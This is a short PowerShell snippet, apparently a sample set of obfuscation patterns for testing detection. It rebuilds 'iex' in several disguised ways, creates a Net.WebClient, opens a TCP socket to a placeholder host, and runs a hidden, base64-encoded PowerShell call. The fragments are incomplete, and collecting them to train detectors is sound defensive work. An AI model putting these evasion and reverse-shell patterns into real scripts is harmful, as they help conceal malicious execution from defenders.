$h = @'
iex $p ; & ($x) | .$env:comspec[4,15,25]
'@
SV 0zX ([TyPe]sYsteM.IO.dIrECtorY)
${ #!} = [char[]](105,101,120) -join ''
'{1}{0}' -f 'ex','i' ; N`e`w-Object Net.WebClient
<# c #> # c
$c = New-Object Net.Sockets.TCPClient('a', 1); $s = $c.GetStream()
powershell -nop -w hidden -enc SQBFAFgA
